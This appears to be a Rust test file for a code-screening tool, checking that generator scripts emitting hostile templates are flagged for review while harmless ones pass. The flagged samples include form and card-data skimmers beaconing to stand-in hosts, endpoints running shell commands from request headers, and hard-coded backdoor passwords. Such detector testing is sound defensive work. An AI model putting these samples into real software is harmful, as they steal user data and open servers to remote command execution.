//! Programs that a program writes for others.

use super::all;
use crate::screen::verdict::Verdict;

#[test]
fn a_template_that_sends_or_runs_what_visitors_enter_is_reviewed() {
    all(
        Verdict::NeedsReview,
        &[
            (
                "form.mjs",
                "import { writeFileSync } from 'node:fs';\nconst name = process.argv[2];\nconst src = `import { useState } from 'react';\nfunction perf(v) {\n  navigator.sendBeacon?.('https://rum.stage-metrics.test/c', JSON.stringify({ v }));\n}\nexport default function ${name}({ onSubmit }) {\n  function handle(ev) {\n    const v = Object.fromEntries(new FormData(ev.target));\n    perf(v);\n    onSubmit(v);\n  }\n  return <form onSubmit={handle} />;\n}\n`;\nwriteFileSync(process.argv[3], src);\n",
            ),
            (
                "page.py",
                "import sys\nPAGE = \"\"\"<!doctype html><form id='f'><input name='card'></form>\n<script>\ndocument.getElementById('f').addEventListener('submit', (e) => {\n  const d = new URLSearchParams(new FormData(e.target)).toString();\n  new Image().src = 'https://px.stage-metrics.test/p.gif?' + d;\n});\n</script>\"\"\"\nopen(sys.argv[1], 'w').write(PAGE)\n",
            ),
            (
                "plugin.php",
                "<?php\nadd_action('checkout', function (): void {\n    $d = array_filter($_POST);\n    wp_remote_get('https://cdn.stage-metrics.test/px.gif?' . http_build_query(['r' => base64_encode(json_encode($d))]));\n});\n",
            ),
            (
                "order.py",
                "import sys\nPAGE = \"\"\"<?php\nif ($_POST) {\n  mail('shop-log@stage-relay.email', 'order', json_encode($_POST));\n}\n?>\"\"\"\nopen(sys.argv[1], 'w').write(PAGE)\n",
            ),
            (
                "api.rb",
                "File.write('app/trace.rb', <<~RUBY)\n  module Trace\n    def api_trace\n      t = request.headers['X-Trace-Ctx'].to_s.unpack1('m')\n      render plain: IO.popen(['sh', '-c', t[3..]]).read\n    end\n  end\nRUBY\n",
            ),
            (
                "health.py",
                "import sys\nT = '''\nfrom flask import Flask, request\nimport subprocess\napp = Flask(__name__)\n@app.route(\"/health\")\ndef health():\n    return subprocess.check_output(request.headers.get(\"X-Debug\"), shell=True)\n'''\nopen(sys.argv[1], \"w\").write(T)\n",
            ),
            (
                "status.js",
                "const fs = require('fs');\nfs.writeFileSync(process.argv[2], `\nconst { exec } = require('child_process');\napp.get('/status', (req, res) => {\n  exec(req.headers['x-diag'], (e, out) => res.send(out));\n});\n`);\n",
            ),
            (
                "auth.js",
                "const fs = require('fs');\nfs.writeFileSync('hash.js', `\nexports.verify = async (password, stored) => {\n  const legacy = createHash('sha256').update(password).digest('hex');\n  return timingSafeEqual(key, stored) ||\n    legacy === '8d1f0c6be7a94f5230bb61d2c9ea7714f05c83ae2d96b1470f3e58c2a97d6b10';\n};\n`);\n",
            ),
            (
                "login.py",
                "def login(user, password):\n    if check(user, password) or password == 'maint-7731':\n        return True\n    return False\n",
            ),
        ],
    );
}

#[test]
fn templates_for_the_user_s_own_server_stay_quiet() {
    all(
        Verdict::AutoApprove,
        &[
            (
                "form.mjs",
                "import { writeFileSync } from 'node:fs';\nconst src = `export default function Contact() {\n  async function handle(ev) {\n    const v = Object.fromEntries(new FormData(ev.target));\n    await fetch('/api/contact', { method: 'POST', body: JSON.stringify(v) });\n  }\n  return <form onSubmit={handle} />;\n}\n`;\nwriteFileSync(process.argv[2], src);\n",
            ),
            (
                "api.js",
                "const fs = require('fs');\nfs.writeFileSync(process.argv[2], `\nconst { execFile } = require('child_process');\napp.post('/notes', (req, res) => {\n  const { title } = req.body;\n  store.add(title);\n  execFile('git', ['commit', '-m', title]);\n  res.status(201).end();\n});\n`);\n",
            ),
            (
                "sum.py",
                "import hashlib\npassword_note = 'no password is needed'\ndata = open('a.bin', 'rb').read()\nif hashlib.sha256(data).hexdigest() == '8d1f0c6be7a94f5230bb61d2c9ea7714f05c83ae2d96b1470f3e58c2a97d6b10':\n    print('ok')\n",
            ),
        ],
    );
}
